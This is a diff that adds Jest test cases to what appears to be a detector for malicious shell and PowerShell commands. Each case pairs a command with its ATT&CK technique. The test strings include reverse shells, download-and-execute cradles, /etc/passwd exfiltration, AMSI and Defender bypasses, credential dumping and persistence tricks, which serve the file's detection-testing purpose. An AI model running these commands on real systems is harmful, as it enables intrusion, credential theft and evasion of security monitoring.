@@ -131,3 +131,181 @@ describe('normalisation', () => {
     expect(views.find((v) => v.via === 'deobfuscated')?.text).toContain("write-host ('ab')");
   });
 });
+
+describe('technique shapes added for issue 11 (one per shape, each names its ATT&CK id)', () => {
+  const b64 = (s: string) => Buffer.from(s, 'utf16le').toString('base64');
+  it.each([
+    ['powercat', 'powercat -c 10.0.0.5 -p 443 -e cmd', 'revshell.powercat', 'T1059.001'],
+    ['shell handed to a tool', "socket -qvp '/bin/sh -i' 10.0.0.5 443", 'revshell.shell_to_tool', 'T1059.004'],
+    ['shell catcher', 'rlwrap nc -lvnp 443', 'c2.shell_catcher', 'T1095'],
+    ['tty upgrade', 'python3 -c \'import pty; pty.spawn("/bin/bash")\'', 'exec.pty_upgrade', 'T1059.006'],
+    ['find shell escape', 'sudo find / -maxdepth 0 -exec /bin/sh -p \\; -quit', 'exec.shell_escape', 'T1059.004'],
+    ['awk system shell', 'sudo awk \'BEGIN {system("/bin/sh")}\'', 'exec.shell_escape', 'T1059.004'],
+    ['suid shell copy', 'cp /bin/sh /tmp/.x && chmod u+s /tmp/.x', 'privesc.suid_shell', 'T1548.001'],
+    ['container escape', 'docker run --rm -it -v /:/host alpine chroot /host /bin/sh', 'privesc.container_escape', 'T1611'],
+    ['uid 0 account', 'useradd -o -u 0 -g 0 -M -s /bin/bash sysd', 'privesc.root_account', 'T1136.001'],
+    ['uac bypass', 'New-Item "HKCU:\\Software\\Classes\\ms-settings\\Shell\\Open\\command" -Force; Set-ItemProperty "HKCU:\\Software\\Classes\\ms-settings\\Shell\\Open\\command" -Name DelegateExecute -Value ""; Start-Process fodhelper.exe', 'privesc.uac_bypass', 'T1548.002'],
+    ['cron from temp', 'echo "@reboot /dev/shm/.u" > /etc/cron.d/u', 'persist.cron_payload', 'T1053.003'],
+    ['crontab from file', 'crontab /tmp/.c', 'persist.cron_file', 'T1053.003'],
+    ['rc.local payload', 'echo "nc 10.0.0.5 443 -e /bin/sh &" >> /etc/rc.local', 'persist.boot_payload', 'T1037.004'],
+    ['winlogon', 'reg add "HKLM\\Software\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon" /v Userinit /d "C:\\Windows\\system32\\userinit.exe,C:\\ProgramData\\u.exe" /f', 'persist.winlogon', 'T1547.004'],
+    ['ifeo debugger', 'reg add "HKLM\\Software\\Microsoft\\Windows NT\\CurrentVersion\\Image File Execution Options\\notepad.exe" /v Debugger /d "C:\\x\\d.exe"', 'persist.ifeo', 'T1546.012'],
+    ['sticky keys', 'copy /y C:\\Windows\\System32\\cmd.exe C:\\Windows\\System32\\sethc.exe', 'persist.accessibility', 'T1546.008'],
+    ['netsh helper', 'netsh add helper C:\\x\\helper.dll', 'persist.appinit_dlls', 'T1546.010'],
+    ['startup script', 'copy x.vbs "%APPDATA%\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\u.vbs"', 'persist.startup_script', 'T1547.001'],
+    ['com hijack', 'reg add "HKCU\\Software\\Classes\\CLSID\\{11111111-2222-3333-4444-555555555555}\\InprocServer32" /ve /d "C:\\x\\c.dll" /f', 'persist.registry_hijack', 'T1546.015'],
+    ['mof', 'mofcomp.exe -N:root\\subscription C:\\x\\p.mof', 'persist.mof', 'T1546.003'],
+    ['powershell 2', 'powershell.exe -version 2 -nop -w hidden -c "iex $c"', 'evasion.ps_downgrade', 'T1562.010'],
+    ['defender service', 'sc config WinDefend start= disabled', 'evasion.defender_service', 'T1562.001'],
+    ['defender alias', 'Set-MpPreference -dioavp $true', 'evasion.defender', 'T1562.001'],
+    ['defender policy value', 'reg add "HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows Defender\\Real-Time Protection" /v DisableOnAccessProtection /t REG_DWORD /d 1 /f', 'evasion.defender', 'T1562.001'],
+    ['amsi wildcard', '$t=[Ref].Assembly.GetTypes()|?{$_.Name -like "*iUtils"}; $f=$t.GetFields("NonPublic,Static")|?{$_.Name -like "*Context"}', 'evasion.amsi', 'T1562.001'],
+    ['etw logman', 'logman update trace EventLog-Application --p Microsoft-Windows-PowerShell -ets', 'evasion.etw', 'T1562.006'],
+    ['audit off', 'auditpol /clear /y', 'evasion.audit_off', 'T1562.002'],
+    ['usn journal', 'fsutil usn deletejournal /D C:', 'evasion.usn_journal', 'T1070'],
+    ['event log disabled', 'wevtutil sl Microsoft-Windows-PowerShell/Operational /e:false', 'evasion.log_clear', 'T1070.001'],
+    ['history file', 'ln -sf /dev/null ~/.bash_history', 'evasion.history_file', 'T1070.003'],
+    ['alternate data stream', 'type C:\\x\\p.exe > C:\\x\\notes.txt:p.exe', 'evasion.ads', 'T1564.004'],
+    ['renamed certutil', 'copy C:\\Windows\\System32\\certutil.exe C:\\x\\c.exe', 'evasion.renamed_lolbin', 'T1036.003'],
+    ['wmic interpreter', 'wmic /node:10.0.0.7 process call create "powershell -nop -c iex $x"', 'lolbin.wmic_interpreter', 'T1047'],
+    ['msxsl', 'msxsl.exe data.xml run.xsl', 'lolbin.msxsl', 'T1220'],
+    ['wmic create', 'wmic process call create "notepad.exe"', 'lolbin.wmic_cli_create', 'T1047'],
+    ['forfiles', 'forfiles /p c:\\windows\\system32 /m notepad.exe /c "cmd /c calc.exe"', 'lolbin.indirect_exec', 'T1202'],
+    ['pcalua', 'pcalua.exe -a C:\\x\\p.exe', 'lolbin.indirect_exec', 'T1202'],
+    ['MpCmdRun download', 'MpCmdRun.exe -DownloadFile -url https://example.net/p -path C:\\x\\p.exe', 'lolbin.download_helper', 'T1105'],
+    ['finger download', 'finger run@203.0.113.9 | more +2 | cmd', 'lolbin.download_helper', 'T1105'],
+    ['rundll32 url export', 'rundll32.exe url.dll,OpenURL http://203.0.113.9/p.hta', 'lolbin.rundll32_url', 'T1218.011'],
+    ['rundll32 ordinal', 'rundll32.exe C:\\x\\a.dll,#1', 'lolbin.rundll32_odd', 'T1218.011'],
+    ['regsvr32 image', 'regsvr32 /s C:\\x\\logo.png', 'lolbin.regsvr32_odd', 'T1218.010'],
+    ['office binary url', 'winword.exe http://203.0.113.9/doc', 'lolbin.signed_binary_url', 'T1218'],
+    ['mavinject', 'mavinject.exe 4321 /INJECTRUNNING C:\\x\\i.dll', 'lolbin.dll_injection_helper', 'T1218.013'],
+    ['msiexec dll', 'msiexec /z C:\\x\\p.dll', 'lolbin.msiexec_remote', 'T1218.007'],
+    ['installutil helper', "[System.Configuration.Install.ManagedInstallerClass]::InstallHelper(@('/u', 'C:\\x\\p.dll'))", 'lolbin.installutil_helper', 'T1218.004'],
+    ['vault', 'vaultcmd /listcreds:"Windows Credentials" /all', 'cred.windows_vault', 'T1555.004'],
+    ['kerberoast', 'Rubeus.exe kerberoast /outfile:h.txt', 'cred.kerberos', 'T1558.003'],
+    ['dump tool', 'secretsdump.py -sam sam.save -system system.save LOCAL', 'cred.dump_tools', 'T1003'],
+    ['history read', 'Get-Content (Get-PSReadlineOption).HistorySavePath', 'cred.shell_history', 'T1552.003'],
+    ['registry passwords', 'reg query HKLM /f password /t REG_SZ /s', 'cred.registry_search', 'T1552.002'],
+    ['shadow copy link', 'mklink /d C:\\sc \\\\?\\GLOBALROOT\\Device\\HarddiskVolumeShadowCopy1\\', 'cred.shadow_copy', 'T1003.003'],
+    ['hive file copy', 'esentutl.exe /y /vss C:/Windows/System32/config/SAM /d C:\\x\\s', 'cred.hive_copy', 'T1003.002'],
+    ['shadow via awk', "awk -F: '{print $2}' /etc/shadow", 'cred.shadow_file', 'T1003.008'],
+    ['recovery registry', 'reg add "HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows NT\\SystemRestore" /v DisableSR /t REG_DWORD /d 1 /f', 'impact.shadow_delete', 'T1490'],
+    ['offensive function', 'Invoke-ReflectivePEInjection -PEBytes $b', 'tool.offensive_powershell', 'T1059.001'],
+    ['enumeration script', 'curl -sL https://example.org/linpeas.sh | sh', 'tool.linux_recon', 'T1082'],
+    ['http exfiltration', 'curl -F "f=@/etc/passwd" http://203.0.113.9/u', 'exfil.http_upload', 'T1041'],
+    ['decode into shell', 'echo 69642e | xxd -r -p | sh', 'exec.decode_to_shell', 'T1140'],
+    ['download to temp from IP', 'wget http://203.0.113.9/t -O /tmp/t', 'ingress.download_to_temp', 'T1105'],
+    ['discovery run', 'whoami /all & net localgroup administrators & nltest /dclist: & systeminfo', 'discovery.chain', 'T1082'],
+    ['reversed IEX', "$s='gnirtSdaolnwoD';iex ($s[-1..-($s.length)] -join '')", 'exec.obfuscated_iex', 'T1027'],
+    ['mdr alias', "&((gv '*mdr*').Name[3,11,2]-join'') $c", 'exec.iex_alias', 'T1027'],
+    ['stdin launcher', 'cmd /c "set c=iex $x && powershell -nop -c $env:c"', 'exec.stdin_launcher', 'T1027.010'],
+    ['format operator cradle', "&(\"{1}{0}\"-f'EX','I') (New-Object Net.WebClient).(\"{0}{1}\" -f 'Download','String').Invoke('http://203.0.113.9/a')", 'cradle.powershell', 'T1105'],
+    ['PSHome IEX', ".($PSHome[21]+$PSHome[30]+'x') (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a')", 'cradle.powershell', 'T1105'],
+    ['scriptblock cradle', '[ScriptBlock]::Create((New-Object Net.WebClient).DownloadString("http://203.0.113.9/a")).Invoke()', 'cradle.powershell', 'T1105'],
+    ['process substitution from IP', 'bash <(curl -s http://203.0.113.9/i.sh)', 'cradle.shell_pipe_shady', 'T1105'],
+    ['encoded downgrade', `powershell -enc ${b64('powershell -version 2 -ep bypass -c iex $c')}`, 'evasion.ps_downgrade', 'T1562.010'],
+    ['reflection flag', "$t=[Ref].Assembly.GetType($n); $t.GetField($f,'NonPublic,Static').SetValue($null,$true)", 'evasion.reflection_flag', 'T1562.001'],
+    ['script-block logging off', "$s=[Ref].Assembly.GetType('System.Management.Automation.Utils').GetField('cachedGroupPolicySettings','NonPublic,Static')", 'evasion.script_logging', 'T1562.002'],
+    ['memory patch', '$a=[W]::GetProcAddress($h,$n); [W]::VirtualProtect($a,[uint32]6,0x40,[ref]$o); [System.Runtime.InteropServices.Marshal]::Copy($p,0,$a,6)', 'evasion.memory_patch', 'T1562.001'],
+    ['signed script proxy', 'SyncAppvPublishingServer.vbs "n;(New-Object Net.WebClient).DownloadString(\'http://203.0.113.9/a\')|IEX"', 'lolbin.signed_script', 'T1216'],
+    ['webdav launch', 'rundll32 \\\\files.example.net@SSL@443\\DavWWWRoot\\p.dll,Start', 'ingress.remote_share_exec', 'T1105'],
+    ['cmd from share', 'cmd.exe /k < \\\\203.0.113.9\\s\\c.txt', 'ingress.remote_share_exec', 'T1105'],
+    ['sudo alias', "echo \"alias sudo='read -sp pw: p; echo $p > /tmp/.p; sudo'\" >> ~/.bashrc", 'persist.hijack_linux', 'T1546.004'],
+    ['setuid capability', 'setcap cap_setuid+ep /tmp/python3', 'persist.hijack_linux', 'T1546.004'],
+    ['dsrm', 'reg add "HKLM\\System\\CurrentControlSet\\Control\\Lsa" /v DsrmAdminLogonBehavior /t REG_DWORD /d 2', 'persist.dsrm', 'T1098'],
+    ['impacket', 'impacket-wmiexec corp/admin@10.0.0.7', 'tool.offensive_cli', 'T1588.002'],
+    ['mimikatz skeleton key', 'mimikatz "misc::skeleton" exit', 'cred.mimikatz', 'T1003.001'],
+    ['mimikatz module syntax', 'crypto::capi\ncrypto::certificates /export', 'cred.mimikatz', 'T1003.001'],
+    ['mimikatz driver', '!+\n!processprotect /process:lsass.exe /remove', 'cred.mimikatz', 'T1003.001'],
+    ['amsi patch bytes', '$p = [Byte[]] (0xB8, 0x57, 0x00, 0x07, 0x80, 0xC3); [Marshal]::Copy($p, 0, $a, 6)', 'evasion.amsi', 'T1562.001'],
+    ['wsh amsi switch', 'reg add "HKCU\\Software\\Microsoft\\Windows Script\\Settings" /v AmsiEnable /t REG_DWORD /d 0 /f', 'evasion.amsi', 'T1562.001'],
+    ['msbuild xml project', 'C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\MSBuild.exe build.xml', 'lolbin.msbuild_inline', 'T1127.001'],
+    ['uid 0 combined flags', 'useradd -ou 0 -g 0 toor', 'privesc.root_account', 'T1136.001'],
+    ['netcat escaped shell', 'RS="ncat 10.0.0.5 443 -e \\"/bin/bash -c id;/bin/bash\\""', 'revshell.netcat_exec', 'T1059.004'],
+    ['git pager hook', "git config --global core.pager 'nc 10.0.0.5 443 -e /bin/sh; less'", 'persist.hijack_linux', 'T1546.004'],
+    ['screensaver', 'reg add "HKCU\\Control Panel\\Desktop" /v SCRNSAVE.EXE /d C:\\x\\s.scr /f', 'persist.registry_hijack', 'T1546.015'],
+    ['appcert dlls', 'reg add "HKLM\\System\\CurrentControlSet\\Control\\Session Manager\\AppCertDlls" /v x /d C:\\x\\a.dll', 'persist.appinit_dlls', 'T1546.010'],
+    ['hidden account', 'net user svc$ Winter2024! /add', 'persist.hidden_account', 'T1564.002'],
+    ['vbs downloader by echo', 'echo Set o = CreateObject("MSXML2.XMLHTTP") > dl.vbs', 'ingress.staged_downloader', 'T1105'],
+    ['ftp script', 'echo get p.exe >> f.txt && ftp -v -n -s:f.txt 203.0.113.9', 'ingress.staged_downloader', 'T1105'],
+    ['dde', "=cmd|' /c powershell -nop -c calc'!A0", 'exec.dde', 'T1559.002'],
+    ['sharpersist', 'SharPersist.exe -t schtask -c "C:\\x\\a.exe" -n upd -m add', 'tool.offensive_powershell', 'T1059.001'],
+    ['server xmlhttp cradle', "$x=New-Object -ComObject MsXml2.ServerXmlHttp;$x.Open('GET','http://203.0.113.9/a',$False);$x.Send();IEX $x.ResponseText", 'cradle.powershell', 'T1105'],
+    ['awk background shell', "awk 'BEGIN {system(\"/bin/sh &\")}'", 'exec.shell_escape', 'T1059.004'],
+    ['powersploit function', 'Install-SSP -Path C:\\x\\ssp.dll', 'tool.offensive_powershell', 'T1059.001'],
+    ['nimgrab', 'nimgrab.exe https://example.net/p.exe $env:TEMP\\p.exe', 'lolbin.download_helper', 'T1105'],
+    ['ads stream write', "Add-Content -Path .\\notes.txt -Value $payload -Stream 'cmd'", 'evasion.ads', 'T1564.004'],
+    ['iis logging off', 'appcmd.exe set config "Default Web Site" /section:httplogging /dontLog:true', 'evasion.audit_off', 'T1562.002'],
+    ['.NET ETW registry', 'reg add HKLM\\Software\\Microsoft\\.NETFramework /v ETWEnabled /t REG_DWORD /d 0', 'evasion.etw', 'T1562.006'],
+    ['edr stopped', 'sudo systemctl stop falcon-sensor.service', 'evasion.security_agent', 'T1562.001'],
+    ['sysmon uninstall', 'sysmon64.exe -u', 'evasion.security_agent', 'T1562.001'],
+    ['office macros on', 'reg add HKCU\\Software\\Microsoft\\Office\\16.0\\Excel\\Security /v VBAWarnings /t REG_DWORD /d 1 /f', 'evasion.office_security', 'T1562.001'],
+    ['dns txt command', 'powershell .(nslookup -q=txt cmd.example.net 8.8.8.8)[-1]', 'c2.dns_txt_exec', 'T1071.004'],
+  ])('%s', (_n, text, id, tech) => {
+    const f = technique(text, id);
+    expect(f).toBeDefined();
+    expect(f?.name.startsWith(`${tech} `)).toBe(true);
+    expect(['medium', 'high', 'critical']).toContain(f?.severity);
+  });
+
+  it.each([
+    ['firewall off', 'netsh advfirewall set allprofiles state off', 'evasion.firewall_off'],
+    ['sudoers', 'echo "deploy ALL=(ALL) NOPASSWD: ALL" >> /etc/sudoers.d/deploy', 'persist.sudoers'],
+    ['local admin', 'net user svc P4ss /add && net localgroup administrators svc /add', 'persist.local_admin'],
+    ['powershell profile', 'Add-Content -Path $PROFILE -Value "Import-Module posh-git"', 'persist.ps_profile'],
+    ['at job', 'echo "/usr/local/bin/rotate.sh" | at midnight', 'persist.at'],
+    ['profile.d', 'echo "export PATH=$PATH:/opt/tool/bin" > /etc/profile.d/tool.sh', 'persist.boot_script'],
+    ['boot script', 'echo "/usr/local/bin/mount-data.sh" >> /etc/rc.local', 'persist.boot_script'],
+  ])('dual-use admin actions are low alone: %s', (_n, text, id) => {
+    expect(technique(text, id)?.severity).toBe('low');
+  });
+  it('a dual-use action next to an offensive technique is high', () => {
+    expect(technique('netsh advfirewall set allprofiles state off & nc 10.0.0.5 443 -e cmd.exe', 'evasion.firewall_off')?.severity).toBe('high');
+  });
+});
+
+describe('benign counter-cases for the added shapes stay at low or below', () => {
+  it.each([
+    ['forfiles log cleanup', 'forfiles /p "D:\\logs" /s /m *.log /d -30 /c "cmd /c del @path"'],
+    ['find -exec sh -c', 'find . -name "*.sh" -exec /bin/sh -c \'shellcheck "$1"\' _ {} \\;'],
+    ['nc receives a file', 'nc -l 9000 > backup.tar'],
+    ['suid on own tool', 'chmod 4755 /usr/local/bin/ping-helper'],
+    ['docker data volume', 'docker run --rm -v /srv/data:/data alpine tar czf /data/b.tgz /data/in'],
+    ['upload to named https service', 'curl --upload-file ./report.pdf https://transfer.example.com/report.pdf'],
+    ['powershell 2 compatibility test', 'powershell.exe -Version 2 -NoProfile -File .\\Test-Compat.ps1'],
+    ['printer rundll32', 'rundll32 printui.dll,PrintUIEntry /in /n "\\\\print01\\Floor2"'],
+    ['scriptblock from local file', '$sb = [ScriptBlock]::Create((Get-Content .\\build.ps1 -Raw)); & $sb'],
+    ['wmi remote cleanup', 'Invoke-WmiMethod -Class Win32_Process -Name Create -ArgumentList "cmd /c del C:\\Temp\\stats.txt" -ComputerName $c'],
+    ['format strings', '$msg = "{0} of {1} done" -f $i, $n; Write-Host ("Total: {0:N0}" -f $sum)'],
+    ['single discovery command', 'ipconfig /all > C:\\Support\\net.txt'],
+    ['reading own history config', 'Set-PSReadLineOption -HistorySaveStyle SaveIncrementally'],
+    ['hta in docs', 'Write-Host "Do not open .hta files from e-mail"'],
+    ['dotfile sudo alias', "alias sudo='sudo '"],
+    ['perl exec of sh -c', "exec '/bin/sh', '-c', \"exec $postgres $opts\" or die"],
+    ['msbuild solution', 'msbuild.exe MyApp.sln /p:Configuration=Release'],
+    ['log shipper restart', 'sudo systemctl restart rsyslog'],
+    ['zone identifier read', 'Get-Content .\\setup.exe -Stream Zone.Identifier'],
+    ['reflection read', "$v = $o.GetType().GetField('_items','NonPublic,Instance').GetValue($o)"],
+    ['file server installer', 'Start-Process \\\\files.corp.example\\deploy\\agent.msi -ArgumentList /qn'],
+  ])('%s', (_n, text) => {
+    expect(['info', 'low']).toContain(worst(text));
+  });
+});
+
+describe('normalisation of format operator and host constants', () => {
+  const deob = (t: string) => scriptViews(t).find((v) => v.via === 'deobfuscated')?.text ?? '';
+  it('resolves "{1}{0}" -f with literal arguments only', () => {
+    expect(deob("&(\"{1}{0}\" -f 'EX','I')")).toContain("'iex'");
+    expect(deob('"{0}-{1}" -f $a, $b')).toBe('');
+  });
+  it('spells characters indexed out of $PSHome, $ShellId and $env:ComSpec', () => {
+    expect(deob(".($PSHome[21]+$PSHOME[30]+'x')")).toContain("'iex'");
+    expect(deob(".($ShellId[1]+$ShellId[13]+'x')")).toContain("'iex'");
+    expect(deob("&($env:ComSpec[4,15,25]-join'')")).toContain("'iex'");
+  });
+  it('substitutes string variables as literals where they are concatenated and as text inside strings', () => {
+    const t = deob('$a=\'Down\';$b=\'loadString\';$u="http://203.0.113.9";$w.($a+$b)("$u/a.ps1")');
+    expect(t).toContain("('downloadstring')");
+    expect(t).toContain('("http://203.0.113.9/a.ps1")');
+  });
+});
